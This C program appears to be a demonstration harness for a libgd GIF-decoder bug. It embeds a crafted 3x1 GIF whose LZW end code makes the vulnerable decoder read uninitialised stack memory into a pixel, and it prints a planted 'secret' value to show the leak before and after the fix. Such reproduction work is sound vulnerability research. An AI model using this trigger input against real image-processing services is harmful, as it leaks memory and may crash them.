/* SPDX-License-Identifier: MIT */
/*
 * gifleak.c - a service that decodes GIF images with the system's libgd (Debian 12's
 * libgd3), to show CVE-2026-9672 and its fix applied live.
 *
 * The bug (libgd 2.3.3, src/gd_gif_in.c, fixed by Debian 2.3.3-9+deb12u1): the LZW
 * decoder's table is on ReadImage's stack (LZW_STATIC_DATA sd, not initialised), its
 * set-up zeroes table[1][0] over and over instead of table[1][i], and an end-of-information
 * code followed by a well-formed end of data is not an end: LWZReadByte_ carries on and
 * decodes the end code itself as a table entry. That entry, table[1][end_code], was never
 * written: the next pixel is whatever the stack held there, a read of uninitialised
 * memory (the advisory: "may lead to crash or arbitrary code execution").
 *
 * The image decoded here is 3x1: codes CLEAR, 1, END (LZW minimum code size 2). The
 * right result is one pixel of colour 1 and the rest left as created (colour 0). Before
 * each decode the service leaves a value on its stack, as an earlier request's data would
 * be left there ("secret N" sets it, 42 at start); the vulnerable decoder puts it into
 * the image: "pixels 1 0 42". Fixed: "pixels 1 0 0".
 *
 * Commands on stdin, one answer line each: "decode", "secret N", "quit". Built normally,
 * against the installed library and without its -dev package (whose candidate is the
 * fixed version): gcc -O2 gifleak.c -l:libgd.so.3.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* The three functions of libgd's API used here (gd.h, 2.3.3). */
typedef struct gdImageStruct *gdImagePtr;
gdImagePtr gdImageCreateFromGifPtr(int size, void *data);
int gdImageGetPixel(gdImagePtr im, int x, int y);
void gdImageDestroy(gdImagePtr im);

/* One line per part of the file. */
/* clang-format off */
static const unsigned char gif[] = {
	'G', 'I', 'F', '8', '9', 'a',
	3, 0, 1, 0, /* screen 3x1 */
	0x00, 0, 0, /* no global colour map */
	',', 0, 0, 0, 0, 3, 0, 1, 0, 0x00, /* image 3x1 at 0,0, no local map */
	2, /* LZW minimum code size: CLEAR 4, END 5, 3-bit codes */
	2, 0x4c, 0x01, /* one sub-block: codes 4 (CLEAR), 1, 5 (END), LSB first */
	0, /* end of the image data: a well-formed end */
	';',
};
/* clang-format on */

static int secret = 42;

/* What an earlier request leaves behind: 256 KiB of the stack below this frame hold
 * `secret`, as ints (a pixel index is an int below 256). */
static __attribute__((noinline)) void leave_on_stack(int value)
{
	volatile int area[65536];
	for (size_t i = 0; i < sizeof area / sizeof area[0]; i++)
		area[i] = value;
}

static __attribute__((noinline)) void decode(void)
{
	leave_on_stack(secret);
	gdImagePtr im = gdImageCreateFromGifPtr((int)sizeof gif, (void *)gif);
	if (!im) {
		printf("not decoded\n");
		return;
	}
	printf("pixels %d %d %d\n", gdImageGetPixel(im, 0, 0), gdImageGetPixel(im, 1, 0),
	       gdImageGetPixel(im, 2, 0));
	gdImageDestroy(im);
}

int main(void)
{
	char line[128];
	printf("ready\n");
	fflush(stdout);
	while (fgets(line, sizeof line, stdin)) {
		if (strncmp(line, "quit", 4) == 0)
			break;
		if (strncmp(line, "decode", 6) == 0) {
			decode();
		} else if (strncmp(line, "secret ", 7) == 0) {
			secret = atoi(line + 7);
			printf("secret %d\n", secret);
		} else {
			printf("usage: decode | secret N | quit\n");
		}
		fflush(stdout);
	}
	return 0;
}
